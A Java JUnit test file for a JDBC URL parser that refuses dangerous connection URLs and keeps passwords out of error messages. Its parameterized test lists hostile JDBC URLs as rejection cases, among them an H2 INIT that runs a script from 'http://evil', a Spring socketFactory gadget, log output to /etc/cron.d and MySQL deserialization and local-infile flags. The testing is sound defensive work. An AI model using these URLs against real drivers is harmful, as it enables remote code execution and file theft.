package dev.lineage.jdbc.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;

import dev.lineage.Lineage;
import dev.lineage.ModelRegistry;
import dev.lineage.StoreException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What URLs may say, and what is said of them. */
final class JdbcUrlTest {
    private static final String SECRET = "hunter2-Sentinel";

    @TempDir
    private Path directory;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://h/db?SocketFactory=x",
                "jdbc:postgresql://h/db?socket%46actory=x",
                "jdbc:postgresql://h/db?loggerFile=/etc/cron.d/x&loggerLevel=TRACE",
                "jdbc:postgresql://h/db?sslfactory=x",
                "jdbc:postgresql://h/db?authenticationPluginClassName=x",
                "jdbc:postgresql://h/db?jaasLogin=true",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;init=create alias",
                "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3;INIT=x",
                "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER=x",
                "jdbc:mysql://h/db?autoDeserialize=true",
                "jdbc:mysql://h/db?queryInterceptors=x",
                "jdbc:mysql://(host=h,autoDeserialize=true)/db",
                "jdbc:mysql://address=(host=h)(allowLoadLocalInfile=true)/db",
                "jdbc:mariadb://h/db?allowLocalInfile=true",
                "jdbc:mariadb://h/db?credentialType=x",
                "jdbc:mariadb://h/db?socketFactory=x",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite:x.db?enable_load_extension=true",
                "jdbc:derby:x",
                "jdbc:postgresql://user:" + SECRET + "@h/db",
                "jdbc:",
                "jdbc:postgresql://h/db?%zz=1"
            })
    void whatLoadsClassesOrRunsScriptsIsRefused(String url) {
        assertThatThrownBy(() -> JdbcUrl.parse(url, true))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("JdbcStores")
                .hasMessageNotContaining(SECRET)
                .hasMessageNotContaining("evil/x.sql");
    }

    @Test
    void credentialsReachTheDriverAndNothingElse() {
        JdbcUrl url = JdbcUrl.parse(
                "jdbc:postgresql://h/db?sslmode=require&user=ana&password=" + SECRET + "&tcpKeepAlive=1", true);

        assertThat(url.forDriver()).isEqualTo("jdbc:postgresql://h/db?sslmode=require&tcpKeepAlive=1");
        assertThat(url).hasToString("jdbc:postgresql://h/db");
        Properties properties = new Credentials(new Properties(), Map.of()).properties(url);
        assertThat(properties).containsEntry("user", "ana").containsEntry("password", SECRET);

        JdbcUrl bare = JdbcUrl.parse("jdbc:h2:file:/x;user=sa;cipher=AES", true);
        assertThat(bare.forDriver()).isEqualTo("jdbc:h2:file:/x;cipher=AES");
        Properties system = new Properties();
        system.setProperty(Credentials.PASSWORD, "p");
        assertThat(new Credentials(system, Map.of("LINEAGE_JDBC_USER", "e", "LINEAGE_JDBC_PASSWORD", "e"))
                        .properties(bare))
                .containsEntry("user", "sa")
                .containsEntry("password", "p");
    }

    @Test
    void noFailureShowsThePassword() {
        String away = TestDatabase.url(TestDatabase.POSTGRESQL).replaceAll("localhost:\\d+", "localhost:1");
        String maria = TestDatabase.url(TestDatabase.MARIADB).replace("user=admin", "user=nobody");
        for (String url : List.of(
                away + "&password=" + SECRET,
                TestDatabase.url(TestDatabase.POSTGRESQL).replace("/postgres?", "/nowhere?") + "&password=" + SECRET,
                maria + "&password=" + SECRET,
                "jdbc:h2:file:relative-is-refused/x;USER=sa;PASSWORD=" + SECRET,
                "jdbc:h2:file:" + directory.resolve("db") + ";IFEXISTS=TRUE;USER=sa;PASSWORD=" + SECRET,
                "jdbc:sqlite:/nowhere/at/all.db?user=x&password=" + SECRET)) {
            Throwable thrown = catchThrowable(() -> Lineage.open(url).close());
            assertThat(thrown).as(url).isInstanceOf(StoreException.class);
            StringWriter trace = new StringWriter();
            thrown.printStackTrace(new PrintWriter(trace));
            assertThat(trace.toString()).doesNotContain(SECRET);
        }
    }

    @Test
    void aUrlOpensARegistryWhoseArtifactsAreRecorded() {
        String url = "jdbc:h2:file:" + directory.resolve("db") + ";USER=sa";
        assertThatThrownBy(() -> Lineage.open(url))
                .isInstanceOf(StoreException.class)
                .hasMessageContaining("lineage.artifacts");
        System.setProperty("lineage.artifacts", TestDatabase.artifacts(directory));
        try {
            Lineage.open(url).close();
        } finally {
            System.clearProperty("lineage.artifacts");
        }
        try (ModelRegistry registry = Lineage.open(url)) {
            assertThat(registry.treeHead().size()).isZero();
        }
    }
}
